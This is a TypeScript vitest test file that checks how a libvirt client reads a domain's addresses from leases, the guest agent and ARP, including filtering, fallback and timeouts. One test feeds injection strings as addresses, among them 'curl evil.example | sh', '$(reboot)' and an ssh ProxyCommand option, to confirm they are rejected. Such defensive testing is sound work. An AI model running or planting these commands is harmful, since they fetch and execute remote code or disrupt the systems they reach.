import { afterEach, describe, expect, test, vi } from 'vitest';
import { readAddresses } from './addresses.ts';
import { addressSource, ConnectionLostError, type LibvirtHost } from './client/index.ts';
import { SideCalls } from './side-calls.ts';
import { type FakeAnswer, fakeConnection, fakeDomain, libvirtError } from './testing/fakes.ts';

const dom = fakeDomain(1);
const { lease, agent, arp } = addressSource;

type Interfaces = Readonly<Record<string, readonly string[]>>;

/** A host whose sources answer so; what has no answer is a source that this driver lacks. */
function fakeHost(sources: Readonly<Record<number, Interfaces | (() => unknown)>>) {
  const answer: FakeAnswer = (_name, args) => {
    const found = sources[(args as { source: number }).source];
    if (!found) throw libvirtError(3);
    if (typeof found === 'function') return found();
    const ifaces = Object.entries(found).map(([name, addrs]) => ({
      name,
      hwaddr: '52:54:00:00:00:01',
      addrs: addrs.map((addr) => ({ type: addr.includes(':') ? 1 : 0, addr, prefix: 24 })),
    }));
    return { ifaces };
  };
  const [events, spare] = [fakeConnection(answer), fakeConnection(answer)];
  // No actions: what the person asks for never waits behind an agent.
  const host = { events: events.connection, spare: async () => spare.connection } as unknown as LibvirtHost;
  const agents = new SideCalls(host, 3000);
  const read = (hasAgent: boolean) => readAddresses(host.events, agents, dom, hasAgent);
  const sourcesOf = ({ calls }: typeof events) => calls.map(({ args }) => (args as { source: number }).source);
  return { host, read, asked: () => ({ events: sourcesOf(events), spare: sourcesOf(spare) }), events };
}

describe('the addresses of a domain', () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  test('are those of its leases, and then nobody else is asked', async () => {
    const { read, asked, events } = fakeHost({ [lease]: { vnet0: ['192.168.122.9'], vnet1: ['fd00::9', '10.0.0.9'] } });
    expect(await read(true)).toEqual(['192.168.122.9', 'fd00::9', '10.0.0.9']);
    expect(asked()).toEqual({ events: [lease], spare: [] });
    expect(events.calls).toEqual([{ name: 'DOMAIN_INTERFACE_ADDRESSES', args: { dom, source: lease, flags: 0 } }]);
  });

  test('are asked of the agent inside where there are no leases, on a connection of their own', async () => {
    const { read, asked } = fakeHost({ [lease]: {}, [agent]: { eth0: ['10.0.0.5'] }, [arp]: { vnet0: ['10.0.0.6'] } });
    expect(await read(true)).toEqual(['10.0.0.5']);
    expect(asked()).toEqual({ events: [lease], spare: [agent] });
  });

  test('are looked for in the ARP table last, without an agent where there is none', async () => {
    const { read, asked } = fakeHost({ [lease]: { vnet0: [] }, [arp]: { vnet0: ['10.0.0.6'] } });
    expect(await read(false)).toEqual(['10.0.0.6']);
    expect(asked()).toEqual({ events: [lease, arp], spare: [] });
  });

  test('leave out loopback, link-local ones and what is told twice', async () => {
    const { read } = fakeHost({
      [lease]: {},
      [agent]: {
        lo: ['127.0.0.1', '::1'],
        eth0: ['10.0.0.5', 'fe80::5054:ff:fe00:1', 'FE80::2', '2001:db8::fe80'],
        eth1: ['10.0.0.5'],
      },
    });
    expect(await read(true)).toEqual(['10.0.0.5', '2001:db8::fe80']);
  });

  test('are addresses: what an agent says beside them is no command to paste', async () => {
    const { read } = fakeHost({
      [lease]: {},
      [agent]: { eth0: ['10.0.0.5; curl evil.example | sh', '$(reboot)', '-oProxyCommand=x', '2001:db8::1%eth0'] },
      [arp]: { vnet0: ['10.0.0.6'] },
    });
    expect(await read(true)).toEqual(['10.0.0.6']);
  });

  test('that reach nothing are not found: the next source is asked', async () => {
    const { read } = fakeHost({
      [lease]: {},
      [agent]: { lo: ['127.0.0.1'], eth0: ['fe80::1'] },
      [arp]: { v: ['10.0.0.1'] },
    });
    expect(await read(true)).toEqual(['10.0.0.1']);
  });

  test('are none where no source has any, which is no error', async () => {
    const { read, asked } = fakeHost({});
    expect(await read(true)).toEqual([]);
    expect(asked()).toEqual({ events: [lease, arp], spare: [agent] });
  });

  test('do not wait for an agent that hangs', async () => {
    vi.useFakeTimers();
    const { read } = fakeHost({ [lease]: {}, [agent]: () => new Promise(() => undefined), [arp]: { v: ['10.0.0.6'] } });
    const answered = vi.fn();
    void read(true).then(answered);
    await vi.advanceTimersByTimeAsync(2900);
    expect(answered).not.toHaveBeenCalled();
    await vi.advanceTimersByTimeAsync(200);
    expect(answered).toHaveBeenCalledWith(['10.0.0.6']);
    expect(vi.getTimerCount()).toBe(0);
  });

  test('do not need the connection for agents', async () => {
    const { read, host } = fakeHost({ [lease]: {}, [arp]: { v: ['10.0.0.6'] } });
    host.spare = () => Promise.reject(new Error('too many clients'));
    expect(await read(true)).toEqual(['10.0.0.6']);
  });

  test('cannot be had over a connection that is lost', async () => {
    const lost = new ConnectionLostError('ended', 'gone');
    const { read } = fakeHost({ [lease]: () => Promise.reject(lost) });
    await expect(read(true)).rejects.toBe(lost);
  });
});
